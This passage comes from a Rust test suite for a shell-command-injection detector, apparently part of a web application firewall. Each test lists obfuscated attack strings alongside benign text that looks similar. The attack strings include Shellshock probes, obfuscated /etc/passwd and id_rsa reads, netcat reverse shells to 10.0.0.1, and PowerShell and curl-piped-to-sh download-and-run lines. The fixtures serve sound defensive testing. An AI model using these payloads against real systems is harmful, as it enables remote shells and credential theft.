        assert!(detect("() { :; }; echo vulnerable", 1, true).is_some());
    }

    #[test]
    fn alias_definitions() {
        shape_cases(
            &[
                "alias a=b",
                "alias -p x=id\n",
                "; alias ls='rm -rf /'",
                "alias 'l'=curl&l x",
            ],
            &["alias John Smith", "email alias=foo", "alias: jsmith"],
        );
    }

    #[test]
    fn batch_conditions() {
        shape_cases(
            &[
                "IF EXIST filename.txt (",
                "IF NOT DEFINED BAR (SET BAR=1)",
                "if a==b foo",
                "if/i a==b foo",
                "IF 2 GEQ 15 echo \"bigger\"",
                "if \"A A\" == \"A A\" echo same",
                "IF ERRORLEVEL 3 goto end",
                "& FOR %@ IN (a,b,c)DO cmd",
            ],
            &[
                "if not defined by the user (see above)",
                "if (a == b) { run() }",
                "if x == y: return",
                "if a == b then c",
                "what if it exists",
            ],
        );
    }

    #[test]
    fn brace_expansions() {
        shape_cases(
            &[
                "{,ip,a}",
                "{l,-lh}s",
                "{id,}",
                "{,ifconfig,eth0}",
                "{,$'whoami',}",
            ],
            &["{id,name,email}", "file{1,2}.txt", "fields={name,id}"],
        );
    }

    #[test]
    fn obfuscated_command_names() {
        shape_cases(
            &[
                "'c'url localhost",
                "\"w\"get localhost",
                "ti''me who",
                "una$$me -a",
                "uname$u -a",
                "\\ls",
                "pi$()ng 127.0.0.1",
                "pi<()ng 127.0.0.1",
                "ping`` 127.0.0.1",
                "x;c$!at+/et$!c/pas$!swd",
            ],
            &[
                "O'keefe's",
                "Mosaic \"Table top\"",
                "\"Dr. Who\" and coffee",
                "it's",
                "US$ 5",
                "c:\\ls",
                "$_get['id']",
            ],
        );
    }

    #[test]
    fn variables_assembled_into_commands() {
        shape_cases(
            &[
                "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
                "a=nc&&$a -nlvp 555",
                "c1=i;c2=d;$c1$c2;",
            ],
            &["a=1&b=2", "x=5; total=$x", "price=$5"],
        );
    }

    #[test]
    fn globbed_system_paths() {
        shape_cases(
            &[
                "/etc/pas[s]wd",
                "/etc/[!q]asswd",
                "/usr/[a-z]in/bash",
                "x /[e///]tc",
            ],
            &["/api/items[0]/name", "/var/log/app[1].log", "filter[name]=x"],
        );
    }

    #[test]
    fn mail_protocol_commands() {
        shape_cases(
            &[
                "x\r\nMAIL FROM:<a@b.com>",
                "\r\nRCPT TO:<postmaster>",
                "\r\nDATA",
                "\r\nEHLO test.com",
                "\r\nRETR 123",
                "\r\na001 EXAMINE INBOX",
                "\r\nA1 list \"INBOX/\" \"*\"",
                "\r\nd store 2 +FLAGS (\\Deleted)",
            ],
            &[
                "Hello,\r\nData is attached.\r\nThanks",
                "Line one\nA1 list of items\nQuit smoking",
                "MAIL FROM:<a@b.com>",
                "notes\r\nHelp wanted",
            ],
        );
    }

    #[test]
    fn prefixes_editors_and_powershell() {
        shape_cases(
            &[
                "nohup who",
                "strace id",
                ";vim x +silent\\ \\!whoami +wq",
                ";iex (iwr http://10.0.0.1/x.ps1)",
                "ansible all -m ping",
                ";\\n.shell nc 10.0.0.1 6666 -e sh",
            ],
            &["time who", "nice who", "ansible tutorial", "vim tips!"],
        );
    }

    #[test]
    fn wide_character_before_a_binary_path() {
        // The root of the path ends after `é` (two bytes): this used to slice inside it.
        assert!(detect("é/bin/cat", 1, false).is_some());
        assert!(detect("é/bin/x", 1, false).is_none());
    }

    #[test]
    fn command_lines_in_headers() {
        header_cases(
            &[
                "ansible all -m ping",
                "env --version",
                "time ifconfig",
                "invoke-expression -command file.ps1",
                "chef-client -t 1.1.1.1",
            ],
            &[
                "curl/8.5.0",
                "Wget/1.21.4 (linux-gnu)",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36",
                "python-requests/2.31.0",
                "kube-probe/1.29",
                "Chef Client/18.2.7 (ruby-3.1.2p20; ohai-18.1.3; x86_64-linux; +https://chef.io)",
                "top 10 songs",
                "find me",
                "https://example.com/?q=env",
                "PostmanRuntime/7.36.0",
                // kubectl's own headers (Kubectl-Command), and plain words after a tool's name.
                "kubectl get",
                "kubectl create secret generic",
                "cscli alerts list",
            ],
        );
    }

    /// What Bash makes of a word before it runs it: a variable inside a word (unset in an
    /// attack, so nothing), arithmetic on a number, `$SHELL` as the command.
    #[test]
    fn expansions_inside_words() {
        shape_cases(
            &[
                ";cat$u /etc$u/passwd",
                "x;cat${u} /etc/passwd",
                "|${u}cat /etc/hosts",
                ";${u} cat /etc/hosts",
                "www.example.com;cat /etc/${a}passwd",
                "$((7))z a -psecret x.7z",
                "$[7]z x -so",
                "$SHELL -c id",
                "${SHELL} -c 'echo hi'",
                ";$BASH -i",
            ],
            &[
                "costs $5",
                "US$u",
                "It costs US$5, about 5$ each",
                "In PHP, $name is a variable and $total$tax a sum",
                "jQuery's $ and $el are objects",
                "Dear ${name}, your order ${id} ships today",
                "Hello ${user}!",
                "/users/${id}/orders",
                "price${currency}",
                "The $SHELL variable names your login shell",
                "${SHELL}",
                "$HOME/bin and ${HOME}/lib are on the path",
                "$((total)) items",
            ],
        );
        // Arithmetic stays paranoia 2's shape after it is worked out.
        assert!(detect("$((7))", 2, false).is_some());
        // Headers: the Referer's fragment, a cookie written as a command line.
        header_cases(
            &[
                "https://www.example.com/?param=something#x=foo;cat$u+/etc$u/passwd",
                "uname$u -a",
            ],
            &[
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0",
                "price=US$u",
                "theme=${name}",
            ],
        );
    }

    #[test]
    fn header_value_that_starts_with_a_separator() {
        header_cases(
            &[";set", ";netstat -an", " ;id"],
            &["gzip;q=1.0", "; q=0.5", "text/html; charset=utf-8", "foo; set=1"],
        );
    }

    #[test]
    fn brace_expansion_with_locale_quoting() {
        shape_cases(
            &["{,$\"whoami\",}", "{$\"id\",}"],
            &["{\"id\",\"name\"}", "{\"a\",\"\"}", "{,\"x\",}"],
        );
    }

    #[test]
    fn system_files_read_from_their_directory() {
        shape_cases(
            &[
                "cd /;cd etc;column passwd",
                "cd /etc;fold passwd",
                "CD /;CD ETC;COMM PASSWD PASSWD",
                ";cat .htpasswd",
                "|head id_rsa",
                "x\nless ../etc/passwd",
            ],
            &[
                "reset password; more passwords",
                "light; more shadow",
                "forgot passwd",
                "change your passwd; see help",
                "keys; sort authorized",
            ],
        );
    }

    #[test]
    fn commands_that_run_their_argument() {
        shape_cases(
            &[
                ";trap 'rm -rf x' SIGEXIT",
                ";trap \"curl http://x.example/y|sh\" EXIT",
                "|eval 'cat /etc/passwd'",
                ";lastlogin -u admin",
                "|lastlogin",
            ],
            &[
                "a trap; trap music",
                "it's a trap",
                "trap cat food",
                "eval tips; eval results",
                "Status: active; last login 2 days ago",
            ],
        );
    }

    #[test]
    fn sqlite_dot_commands() {
        shape_cases(
            &[
                "\";\\n. shell nc 10.0.0.1 6666 -e sh\\n",
                "1;.sh whoami",
                "x\n.sys id",
                ";.shel curl http://x.example/",
            ],
            &[
                "file types: .py; .sh files",
                "scripts; .sh and .py",
                "a;. shell game",
                "end.\n. Shell out",
            ],
        );
    }

    #[test]
    fn windows_switches_glued_to_the_name() {
        shape_cases(
            &[
                "view=x&bcdboot/r file.txt",
                "|cmd/c whoami",
                "&ipconfig/?",
                ";tasklist/v",
            ],
            &[
                "a;kubectl/apply",
                "x & kubectl/v",
                "tools: cmd/ctrl",
                "x;base64/x",
                "R&D/QA",
                "ipconfig/all",
            ],
        );
        assert!(detect("Foo; OpenSSL/3", 1, true).is_none());
    }

    #[test]
    fn benign_text() {
        for ok in [
            "Tom & Jerry",
            "Books, music & more",
            "salt & pepper; sugar",
            "cat food",
            "id",
            "python tutorial",
            "find a doctor",
            "rock & roll | jazz",
            "sort=date&order=desc",
            "R&D; Q&A",
            "more info; see below",
            "price: $5 (approx)",
            "a/b/c",
            "/usr/share/doc/readme",
            "time to go",
            "sleep 8 hours",
            "for the kids in the family do this",
            "if you like it, echo it",
            "the system (as designed)",
            "${HOME}/bin",
            "C++ developer",
            "2+2=4",
            "nice cat",
            "echo chamber",
            "uname",
            "ping 127.0.0.1",
            "data://text/plain;base64,SGVsbG8=",
        ] {
            assert!(
                detect(ok, 1, false).is_none(),
                "false positive on {ok:?}: {:?}",
                detect(ok, 1, false)
            );
        }
        for ua in [
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
            "curl/8.5.0",
            "Wget/1.21.4",
            "python-requests/2.31.0",
        ] {
            assert!(detect(ua, 1, true).is_none(), "false positive on {ua:?}: {:?}", detect(ua, 1, true));
        }
    }
}
